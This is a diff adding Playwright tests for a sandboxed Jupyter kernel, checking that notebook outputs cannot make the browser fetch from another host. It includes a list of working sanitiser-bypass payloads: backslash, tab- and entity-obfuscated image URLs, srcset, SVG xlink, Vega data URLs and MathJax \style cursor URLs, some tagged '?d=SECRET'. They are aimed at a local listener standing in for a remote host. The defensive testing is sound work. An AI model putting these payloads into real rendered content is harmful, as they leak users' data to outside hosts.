@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import json
 import os
 import re
@@ -21,7 +22,9 @@ import pytest
 from playwright.sync_api import BrowserContext, Locator, Page, expect, sync_playwright
 
 from conftest import Listener
+from sandbox_kernel.url_reach import PAGES
 from test_notebooks import SETTINGS
+from url_payloads import CHROMIUM_DIFFERS, ENTITY_CASES, URL_CASES, judge_says, verdict_from_parses
 
 SKILLS_SETTINGS = SETTINGS["skills.ipynb"]
 
@@ -328,3 +331,179 @@ def test_the_same_payloads_do_run_in_ipykernel(lab: Lab, page: Page) -> None:
         assert {"/javascript", "/script", "/remote-image"} <= paths, paths
     finally:
         listener.close()
+
+
+# ---- no URL in an output reaches another host -----------------------------------------------------------
+
+
+def url_payloads(port: int) -> list[tuple[str, Any]]:
+    """(kind, value) outputs that each try to make the browser fetch from 127.0.0.1:`port`, which stands in
+    for another host (allow_net is empty); each names its own path, so a hit says which one got through."""
+    far = f"127.0.0.1:{port}"
+    svg = (
+        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">'
+        f'<image href="/\\{far}/svg-image?d=SECRET" width="9" height="9"/>'
+        f'<image xlink:href=" //{far}/svg-xlink-image" x="10" width="9" height="9"/>'
+        f'<use href="//{far}/svg-use.svg#a"/></svg>'
+    )
+    vegalite = {
+        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
+        "data": {"url": f"//{far}/vega-data.csv"},
+        "mark": "point",
+        "encoding": {"x": {"field": "a", "type": "quantitative"}},
+    }
+    return [
+        ("html", f'<img src="/\\{far}/html-backslash?d=SECRET">'),
+        ("html", f'<img src=" /\\{far}/html-leading-space">'),
+        ("html", f'<img src="&#x2F;&#x5C;{far}/html-entities">'),
+        ("html", f'<img src="/&bsol;{far}/html-bsol">'),
+        ("html", f'<img src="/&Tab;/{far}/html-tab">'),
+        ("html", f'<img src="h&Tab;ttp:/\\{far}/html-scheme-tab">'),
+        ("html", f'<img srcset="/\\{far}/html-srcset 1x">'),
+        ("html", f'<a class="sbx-far-link" href="/\\{far}/html-link">far link</a>'),
+        ("svg", svg),
+        ("markdown", f"![md](/\\{far}/md-image)"),
+        ("markdown", f'<img src="/\\{far}/md-html-image">'),
+        ("markdown", f"![md][r]\n\n[r]: //{far}/md-reference"),
+        ("raw", {"application/vnd.vegalite.v5+json": vegalite, "text/plain": "vega chart"}),
+        # MathJax typesets math in HTML, Markdown and LaTeX output: \style sets CSS, \href makes a link.
+        ("html", f"<p>$\\style{{cursor: url(http://{far}/math-style), auto}}{{z}}$</p>"),
+        ("html", f"<p>$\\sty<wbr>le{{cursor: url(http://{far}/math-split-style), auto}}{{z}}$</p>"),
+        ("markdown", f"a $\\href{{//{far}/math-href}}{{y}}$ b"),
+        ("latex", f"$\\style{{cursor: url(http://{far}/math-latex), auto}}{{w}}$"),
+        ("html", '<b class="sbx-far-done">all shown</b>'),
+    ]
+
+
+MATH_PAYLOADS = 4  # math expressions url_payloads shows (each becomes one mjx-container)
+
+
+def show_cell(payloads: list[tuple[str, Any]]) -> str:
+    """One line of Python that displays `payloads` (sent as base64, so nothing in them is typed as code)."""
+    blob = base64.b64encode(json.dumps(payloads).encode()).decode()
+    return (
+        "import base64, json; from IPython.display import HTML, SVG, Latex, Markdown, display; "
+        "show = {'html': HTML, 'svg': SVG, 'markdown': Markdown, 'latex': Latex, 'raw': lambda bundle: bundle}; "
+        f"[display(show[kind](value), raw=kind == 'raw') for kind, value in json.loads(base64.b64decode('{blob}'))];"
+    )
+
+
+# What in the output area could send the browser elsewhere: URL attributes that resolve off the page, and
+# the source each image chose (currentSrc, which covers srcset).
+FAR_URLS_JS = r"""
+(area) => {
+  const far = [];
+  const off = (value) => {
+    try { const host = new URL(value, document.baseURI).host; return host !== '' && host !== location.host; }
+    catch { return false; }
+  };
+  for (const el of area.querySelectorAll('*')) {
+    for (const attr of el.attributes) {
+      const name = attr.name.toLowerCase();
+      if (['srcset', 'poster', 'background', 'formaction', 'action', 'data'].includes(name)) far.push(name + '=' + attr.value);
+      else if (['src', 'href', 'xlink:href', 'cite'].includes(name) && off(attr.value)) far.push(name + '=' + attr.value);
+      else if (name === 'style' && /url\(/i.test(attr.value)) far.push(name + '=' + attr.value);
+    }
+    if (el.tagName === 'IMG' && el.currentSrc && off(el.currentSrc)) far.push('currentSrc=' + el.currentSrc);
+  }
+  return far;
+}
+"""
+
+
+def test_no_output_url_reaches_another_host(lab: Lab, page: Page) -> None:
+    """Images, srcset, SVG images, Markdown images and a Vega data URL aimed at a listener that stands in for
+    another host: the browser renders the cell and the listener sees no request at all."""
+    listener = Listener()
+    try:
+        open_notebook(page, lab, KERNEL)
+        cell = run_cell(page, show_cell(url_payloads(listener.port)))
+        area = cell.locator(".jp-Cell-outputArea")
+        expect(cell.locator("b.sbx-far-done")).to_have_text("all shown", timeout=CELL_MS)
+        expect(area.locator("mjx-container")).to_have_count(MATH_PAYLOADS, timeout=CELL_MS)  # MathJax is done
+        # Every image has finished (loaded or failed): a fetch any of them made has reached the listener.
+        page.wait_for_function(
+            "area => [...area.querySelectorAll('img')].every(img => img.complete)",
+            arg=area.element_handle(),
+            timeout=CELL_MS,
+        )
+        listener.assert_untouched()
+        # Nothing is left that could fetch later: the Vega spec is not shown, no URL attribute leaves the page.
+        expect(area).to_contain_text("application/vnd.vegalite.v5+json was not sent: it names a URL on '127.0.0.1'")
+        assert area.evaluate(FAR_URLS_JS) == []
+        expect(cell.locator("a.sbx-far-link")).to_have_text("far link")
+        assert cell.locator("a.sbx-far-link").get_attribute("href") is None  # not a hyperlink: a click goes nowhere
+        page.screenshot(path=ARTIFACTS / "jupyterlab-far-urls.png")
+    finally:
+        listener.close()
+
+
+# The payloads that reach the listener when nothing sanitises them (ipykernel): each is live in this browser.
+# (math-href is a link inside MathJax's output, clicked in neither test: the other test checks its href.)
+# Not here: JupyterLab 4 shows image/svg+xml through <img>, where an SVG loads no images, and its Markdown
+# renderer percent-encodes a backslash in a link destination (other frontends do neither: they are sent too).
+LIVE_IN_JUPYTERLAB = {
+    "/html-backslash",
+    "/html-leading-space",
+    "/html-entities",
+    "/html-bsol",
+    "/html-tab",
+    "/html-scheme-tab",
+    "/html-srcset",
+    "/html-link",
+    "/md-html-image",
+    "/md-reference",
+    "/vega-data.csv",
+    "/math-style",
+    "/math-split-style",
+    "/math-latex",
+}
+
+
+def test_the_same_url_payloads_reach_the_listener_from_ipykernel(lab: Lab, page: Page) -> None:
+    """Proof that the test above would see a leak: under ipykernel (nothing sanitised) the payloads fetch."""
+    listener = Listener()
+    try:
+        open_notebook(page, lab, "Python 3 (ipykernel)")
+        cell = run_cell(page, show_cell(url_payloads(listener.port)))
+        expect(cell.locator("b.sbx-far-done")).to_have_text("all shown", timeout=CELL_MS)
+        cell.locator("a.sbx-far-link").click()
+        deadline = time.monotonic() + 20
+        while not LIVE_IN_JUPYTERLAB <= hit_paths(listener) and time.monotonic() < deadline:
+            page.wait_for_timeout(200)
+        assert LIVE_IN_JUPYTERLAB <= hit_paths(listener), " ".join(sorted(hit_paths(listener)))
+    finally:
+        listener.close()
+
+
+def hit_paths(listener: Listener) -> set[str]:
+    """The paths (without query) of the HTTP requests the listener saw."""
+    lines = [hit.split(b"\r\n", 1)[0].split(b" ") for hit in list(listener.hits)]
+    return {line[1].decode().split("?")[0] for line in lines if len(line) == 3}
+
+
+def test_the_url_judge_agrees_with_chromium(browser: BrowserContext) -> None:
+    """Chromium's own URL parser, on the unit tests' table: it leaves the page for the same host as the
+    judge says (but where CHROMIUM_DIFFERS says why not), and its HTML parser decodes attribute values as
+    nh3 hands them to the judge."""
+    page = browser.new_page()
+    try:
+        parses = page.evaluate(
+            "([urls, pages]) => urls.map(u => pages.map(p => {"
+            " try { const x = new URL(u, p); return [x.protocol, x.hostname]; } catch { return null; } }))",
+            [[case.url for case in URL_CASES], list(PAGES)],
+        )
+        disagree = {}
+        for case, parsed in zip(URL_CASES, parses, strict=True):
+            chromium_says = verdict_from_parses([tuple(p) if p else None for p in parsed])
+            if chromium_says != judge_says(case.url):
+                disagree[case.url] = chromium_says
+        assert disagree.keys() == CHROMIUM_DIFFERS.keys(), disagree
+        decoded = page.evaluate(
+            "raws => raws.map(r => new DOMParser().parseFromString('<img src=\"' + r + '\">', 'text/html')"
+            ".querySelector('img').getAttribute('src'))",
+            [raw for raw, _ in ENTITY_CASES],
+        )
+        assert decoded == [value for _, value in ENTITY_CASES]
+    finally:
+        page.close()
